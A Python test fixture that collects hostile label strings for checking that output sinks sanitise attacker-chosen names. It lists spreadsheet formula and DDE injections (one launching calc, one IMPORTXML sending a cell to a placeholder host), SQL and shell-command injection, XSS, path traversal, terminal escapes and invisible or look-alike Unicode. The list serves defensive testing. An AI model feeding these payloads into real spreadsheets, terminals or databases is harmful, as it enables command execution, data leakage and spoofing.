"""Names as an attacker would write them: anybody can name a token or send a label, so every sink must bear these."""

# ruff: noqa: E501, RUF001

from __future__ import annotations

_FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "   @x", "＝1+1", "＋1", "－1", "＠SUM(1)", "=\"a\"&\"b\"", "-2+3+cmd|' /C calc'!A0",
    "+A1;=1+1", "x;=1+1", "x\t=1+1", "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")", "%0A=1", "'=1+1", "\"=1+1", "==", "@", "-",
]  # fmt: skip
_QUOTES = [
    '"', "'", '""', '"""', "a\"b", "a'b", 'a","b', "a,b", "a;b", "a|b", "`a`", "“a”", "\\", "\\\\", "\\n", "\\x1b", "%s %d {0} {name}",
    "$(touch x)", "${x}", "{{7*7}}", "'; DROP TABLE labels; --", "../../x", "C:\\x", "NUL", "null", "None", "NaN", "-0", "1e309",
]  # fmt: skip
_MARKUP = [
    "[red]", "[bold red]x[/]", "[/]", "[link=http://x]y[/link]", "[", "]", "[[x]]", ":skull:", "<script>alert(1)</script>",
    "<b>x</b>", "</data>", "</graphml>", "<!-- x", "-->", "]]>", "<![CDATA[x]]>", "&amp;", "&", "&#0;", "&#x1b;", "&undefined;",
    "<!DOCTYPE x [<!ENTITY a \"b\">]>", "<?xml version=\"1.0\"?>", "<img src=x onerror=y>", "javascript:x", "# x", "| a | b |", "**x**",
]  # fmt: skip
_CONTROLS = [
    "\x00", "a\x00b", "\x07", "\x08\x08\x08x", "\x0b", "\x0c", "\x1b", "\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07",
    "\x1b]8;;http://x\x1b\\y\x1b]8;;\x1b\\", "\x1b[1A\x1b[2Kx", "\x7f", "\x80", "\x85", "\x9b31m", "\x9d0;x\x9c", "a\nb", "a\rb", "a\r\nb",
    "\n", "\r", "\t", "a\u2028b", "a\u2029b", "\x1c\x1d\x1e\x1f", "x\x08y", "\x00=1+1",
]  # fmt: skip
_INVISIBLE = [
    "", " ", "   ", "\u00a0", "\u3000", "\u200b", "a\u200bb", "\u200c\u200d\u200e\u200f", "\u202a\u202b\u202c\u202d\u202e", "abc\u202ecba",
    "\u2066x\u2067y\u2068z\u2069", "\u061c", "\u2060\u2061\u2062\u2063\u2064", "\ufeff", "\u00ad", "\u034f", "\u115f\u1160\u3164\uffa0",
    "\u17b4\u17b5", "\u180b\u180e", "\ufe0f", "\ufff9\ufffa\ufffb", "\U000e0001\U000e0041", "\U000e0100", "\u2800", "\u0600",
]  # fmt: skip
_UNUSUAL = [
    "\ud800", "\udfff", "a\ud83db", "\udc80", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ue000", "\u0378", "\u0300", "a\u0300",
    "a" + "\u0301" * 50, "\u20dd", "é", "é", "Ηuobi", "Binаnce", "火币", "후오비", "هوبي", "עברית", "💀", "👨\u200d👩\u200d👧", "ｈｔｘ", "ß", "İ",
    "x" * 300, "火" * 100, "A" * 40_000, "0x" + "f" * 40,
]  # fmt: skip

HOSTILE = tuple(dict.fromkeys(_FORMULAS + _QUOTES + _MARKUP + _CONTROLS + _INVISIBLE + _UNUSUAL))
